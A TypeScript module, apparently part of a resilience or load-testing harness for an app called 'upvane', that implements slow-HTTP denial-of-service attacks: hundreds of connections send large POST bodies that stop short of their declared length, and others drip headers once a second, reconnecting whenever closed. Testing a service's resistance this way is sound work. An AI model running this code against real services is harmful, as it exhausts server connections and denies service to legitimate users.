// Requests that never end: large bodies that stop short of their last byte, and headers that trickle in.
import { connect } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import type { Attack, Run, Tally } from './grounds.ts'
import { ADDRESSES, addUp, count } from './load.ts'

const BODIES = 500
const SLOW_HEADERS = 300
const BODY_BYTES = 1_900_000
const PIECE = Buffer.alloc(64 * 1024, ' ')
const DRIP_EVERY_MS = 1_000
const AGAIN_AFTER_MS = 1_000

type Opened = { head: string; bodyBytes: number; drip?: string }

/** One connection that is reopened whenever it is closed, until the end. */
async function hold({ grounds, endMs }: Run, tally: Tally, opened: Opened): Promise<void> {
  while (Date.now() < endMs) {
    await holdOnce(grounds.baseUrl, opened, endMs, tally)
    await sleep(Math.max(0, Math.min(AGAIN_AFTER_MS, endMs - Date.now())))
  }
}

function holdOnce(baseUrl: string, opened: Opened, endMs: number, tally: Tally): Promise<void> {
  const { hostname, port } = new URL(baseUrl)
  const { head, bodyBytes, drip } = opened
  return new Promise((resolve) => {
    const socket = connect({ host: hostname, port: Number(port), localAddress: ADDRESSES.bodies })
    let sentBytes = 0
    const pump = () => {
      while (sentBytes < bodyBytes && socket.writable) {
        sentBytes += PIECE.length
        if (!socket.write(PIECE)) return
      }
    }
    const dripping = drip && setInterval(() => socket.write(drip), DRIP_EVERY_MS)
    const end = setTimeout(() => socket.destroy(), Math.max(0, endMs - Date.now()))
    socket.on('connect', () => {
      count(tally, 'connected')
      socket.write(head)
      pump()
    })
    socket.on('drain', pump)
    socket.once('data', (data) => count(tally, `answered ${data.toString().slice(9, 12)}`))
    socket.on('error', () => count(tally, 'reset'))
    socket.on('close', () => {
      if (dripping) clearInterval(dripping)
      clearTimeout(end)
      resolve()
    })
  })
}

const JSON_HEAD = `Content-Type: application/json\r\nSec-Fetch-Site: same-origin\r\n`

function headOf({ grounds: { keys } }: Run, number: number): string {
  const length = `Content-Length: ${BODY_BYTES + 2 * PIECE.length}\r\n\r\n`
  if (number % 2 === 0)
    return `POST /app/api/session HTTP/1.1\r\nHost: upvane\r\n${JSON_HEAD}${length}`
  const key = keys[34 + ((number >> 1) % 2)]
  return `POST /api/v1/monitors HTTP/1.1\r\nHost: upvane\r\nX-API-Key: ${key}\r\n${JSON_HEAD}${length}`
}

async function sendBodies(run: Run): Promise<Tally> {
  const tally: Tally = {}
  const bodies = Array.from({ length: BODIES }, (_, number) =>
    hold(run, tally, { head: headOf(run, number), bodyBytes: BODY_BYTES }),
  )
  await Promise.all(bodies)
  return tally
}

async function sendHeaders(run: Run): Promise<Tally> {
  const tally: Tally = {}
  const head = 'GET /api/v1/monitors HTTP/1.1\r\nHost: upvane\r\n'
  const slow = Array.from({ length: SLOW_HEADERS }, () =>
    hold(run, tally, { head, bodyBytes: 0, drip: 'X-Drip: 1\r\n' }),
  )
  await Promise.all(slow)
  return tally
}

export const bodies: Attack = {
  attack: async (run) => addUp(await Promise.all([sendBodies(run), sendHeaders(run)])),
}
